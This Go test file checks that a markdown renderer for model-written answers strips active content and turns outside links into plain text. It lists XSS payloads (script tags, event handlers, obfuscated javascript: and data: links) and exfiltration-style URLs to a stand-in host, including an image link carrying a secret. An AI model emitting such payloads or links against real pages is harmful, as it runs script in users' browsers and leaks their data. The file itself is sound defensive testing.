package web

import (
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

var update = flag.Bool("update", false, "rewrite the golden files")

// xssPayloads are what a model (or a document it quotes) might put in an answer. RELIABILITY.md row 19.
var xssPayloads = []struct{ name, md string }{
	{"script tag", "Hello <script>alert(1)</script> world"},
	{"img onerror", `<img src=x onerror="alert(1)">`},
	{"event handler in raw html", `<a href="/x" onclick="alert(1)">x</a>`},
	{"javascript link", "[click](javascript:alert(1))"},
	{"entity-encoded javascript link", "[click](java&#115;cript:alert(1))"},
	{"colon entity javascript link", "[click](javascript&colon;alert(1))"},
	{"upper-case javascript link", "[click](JaVaScRiPt:alert(1))"},
	{"data uri link", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"},
	{"external image", "![tracker](https://evil.example/pixel.png)"},
	{"external image with title", `![a "b"](https://evil.example/x.png "t")`},
	{"autolink javascript", "<javascript:alert(1)>"},
	{"iframe", `<iframe src="https://evil.example"></iframe>`},
	{"svg onload", `<svg onload=alert(1)>`},
	{"style attribute", `<p style="background:url(https://evil.example)">x</p>`},
	{"html comment breaking out", "<!-- --><script>alert(1)</script> -->"},
}

// assertSafe parses the HTML and fails on any element or attribute that could run code, load from
// elsewhere or style the page.
func assertSafe(t *testing.T, out string) {
	t.Helper()
	z := html.NewTokenizer(strings.NewReader(out))
	for {
		switch z.Next() {
		case html.ErrorToken:
			return
		case html.StartTagToken, html.SelfClosingTagToken:
			tok := z.Token()
			switch tok.Data {
			case "script", "img", "iframe", "svg", "object", "embed", "style", "link", "meta", "base", "form":
				t.Errorf("<%s> reached the page: %s", tok.Data, out)
			}
			for _, a := range tok.Attr {
				v := strings.ToLower(strings.TrimSpace(a.Val))
				switch {
				case strings.HasPrefix(a.Key, "on"), a.Key == "style", a.Key == "srcdoc":
					t.Errorf("attribute %s reached the page: %s", a.Key, out)
				case (a.Key == "href" || a.Key == "src") && (strings.HasPrefix(v, "javascript:") || strings.HasPrefix(v, "data:") || strings.HasPrefix(v, "vbscript:")):
					t.Errorf("dangerous URL %q reached the page: %s", a.Val, out)
				}
			}
		}
	}
}

// assertOnlyInAppLinks fails on a link to anything but a fragment or a path of this server.
func assertOnlyInAppLinks(t *testing.T, out string) {
	t.Helper()
	z := html.NewTokenizer(strings.NewReader(out))
	for tt := z.Next(); tt != html.ErrorToken; tt = z.Next() {
		tok := z.Token()
		if tok.Data != "a" || (tt != html.StartTagToken && tt != html.SelfClosingTagToken) {
			continue
		}
		for _, a := range tok.Attr {
			if a.Key == "href" && !(strings.HasPrefix(a.Val, "#") || strings.HasPrefix(a.Val, "/") && !strings.HasPrefix(a.Val, "//") && !strings.ContainsRune(a.Val, '\\')) {
				t.Errorf("a link out of the app: %s", out)
			}
		}
	}
}

func TestRenderMarkdownNeverPassesActiveContent(t *testing.T) {
	for _, p := range xssPayloads {
		t.Run(p.name, func(t *testing.T) {
			assertSafe(t, RenderMarkdown(p.md, "cite-t-"))
		})
	}
}

func TestRenderMarkdownGolden(t *testing.T) {
	var b strings.Builder
	for _, p := range xssPayloads {
		b.WriteString("## " + p.name + "\n" + RenderMarkdown(p.md, "cite-t-") + "\n")
	}
	b.WriteString("## answer with citations\n" + RenderMarkdown("You can receive **600 EUR** [1].\n\n- 600 EUR over 3,500 km [1, 2]\n- a [link](https://example.org) and [local](/documents)\n", "cite-t-") + "\n")
	got := b.String()
	path := filepath.Join("testdata", "markdown.golden")
	if *update {
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run with -update to create it)", err)
	}
	if got != string(want) {
		t.Errorf("rendering changed; review and run with -update.\ngot:\n%s", got)
	}
}

func TestCitationMarkersBecomeLinks(t *testing.T) {
	tests := []struct {
		name, md string
		want     []string
	}{
		{"single", "600 EUR [1].", []string{`href="#cite-t-1"`}},
		{"list", "both [1, 2]", []string{`href="#cite-t-1"`, `href="#cite-t-2"`}},
		{"adjacent", "both [2][4]", []string{`href="#cite-t-2"`, `href="#cite-t-4"`}},
		{"in-app link text left alone", "[1](/documents/d1)", []string{`href="/documents/d1"`}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := RenderMarkdown(tt.md, "cite-t-")
			for _, w := range tt.want {
				if !strings.Contains(got, w) {
					t.Errorf("%q rendered as %s; want %s", tt.md, got, w)
				}
			}
		})
	}
}

// Issue 21, item 3: links the model writes that lead outside Hopwise are shown as text with the full
// address; only citations and in-app links stay links.
func TestOutsideLinksAreText(t *testing.T) {
	tests := []struct{ name, md, wantText string }{
		{"lure", "[Claim your money here](http://evil.example/claim?passport=123)", "Claim your money here (http://evil.example/claim?passport=123)"},
		{"image leaking a secret", "![x](http://evil.example/p.png?c=SECRET)", "image: x (http://evil.example/p.png?c=SECRET)"},
		{"autolink", "<http://evil.example/auto?a=1&b=2>", "http://evil.example/auto?a=1&b=2"},
		{"protocol-relative", "[see](//evil.example/x)", "see (//evil.example/x)"},
		{"backslash read as //", `[see](/\evil.example/x)`, `see (/\evil.example/x)`},
		{"a citation look-alike", "as shown [9](http://evil.example/nine).", "as shown 9 (http://evil.example/nine)."},
		{"reference link", "[here][r]\n\n[r]: https://evil.example/ref", "here (https://evil.example/ref)"},
		{"mail", "<someone@evil.example>", "someone@evil.example"},
		{"link around an image", "[![logo](https://evil.example/l.png)](https://evil.example/)", "image: logo (https://evil.example/l.png) (https://evil.example/)"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			out := RenderMarkdown(strings.ReplaceAll(tt.md, `\n`, "\n"), "cite-t-")
			doc, err := html.Parse(strings.NewReader(out))
			if err != nil {
				t.Fatal(err)
			}
			var text strings.Builder
			var walk func(*html.Node)
			walk = func(n *html.Node) {
				if n.Type == html.ElementNode && n.Data == "a" {
					t.Errorf("a link reached the page: %s", out)
				}
				if n.Type == html.TextNode {
					text.WriteString(n.Data)
				}
				for c := n.FirstChild; c != nil; c = c.NextSibling {
					walk(c)
				}
			}
			walk(doc)
			if !strings.Contains(text.String(), tt.wantText) {
				t.Errorf("text %q, want it to show %q", text.String(), tt.wantText)
			}
		})
	}
	kept := RenderMarkdown("600 EUR [1], see [the list](/documents) and [above](#cite-t-1).", "cite-t-")
	for _, want := range []string{`href="#cite-t-1">[1]</a>`, `href="/documents"`, `href="#cite-t-1">above</a>`} {
		if !strings.Contains(kept, want) {
			t.Errorf("%s lost %s", kept, want)
		}
	}
}

func FuzzRenderMarkdown(f *testing.F) {
	for _, p := range xssPayloads {
		f.Add(p.md)
	}
	f.Fuzz(func(t *testing.T, md string) {
		out := RenderMarkdown(md, "cite-t-")
		assertSafe(t, out)
		assertOnlyInAppLinks(t, out)
	})
}
